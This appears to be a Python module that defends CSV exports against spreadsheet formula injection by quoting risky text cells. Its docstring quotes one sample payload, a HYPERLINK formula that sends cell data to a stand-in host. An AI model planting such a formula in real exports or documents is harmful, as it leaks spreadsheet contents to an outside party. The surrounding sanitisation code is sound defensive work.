"""Every CSV the product writes goes through here, so no cell can run as a spreadsheet formula.

Excel, LibreOffice and Google Sheets run a cell that begins with `=`, `+`, `-` or `@` as a
formula (`=HYPERLINK("http://evil.example/?x="&A1,"x")` in a Slack comment would leak the
sheet when a lead opens the export), and some skip a leading tab or carriage return first.
The OWASP rule is applied to every text cell: such a cell gets a leading single quote, which
spreadsheets show as text. Numbers are written as they are: a negative value in a numeric
column is data, a spreadsheet reads `-3` as the number -3 (a number is never a formula), and
quoting it would turn it into text that no longer sums or sorts.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from itertools import chain
from typing import TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: object) -> object:
    """The cell as written: numbers as numbers, None as empty, text with a formula start quoted."""
    if value is None:
        return ""
    if isinstance(value, int | float) and not isinstance(value, bool):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def write_csv(stream: TextIO, header: Sequence[str], rows: Iterable[Sequence[object]]) -> None:
    """Write `header` and `rows` as CSV (comma, `\n` line ends), every cell made spreadsheet-safe.

    With `\n` line ends the csv module does not quote a cell holding a bare carriage return,
    and readers would split the row there; such a row is written with every cell quoted."""
    plain = csv.writer(stream, lineterminator="\n")
    quoted = csv.writer(stream, lineterminator="\n", quoting=csv.QUOTE_ALL)
    for row in chain([header], rows):
        cells = [spreadsheet_safe(cell) for cell in row]
        has_cr = any(isinstance(cell, str) and "\r" in cell for cell in cells)
        (quoted if has_cr else plain).writerow(cells)
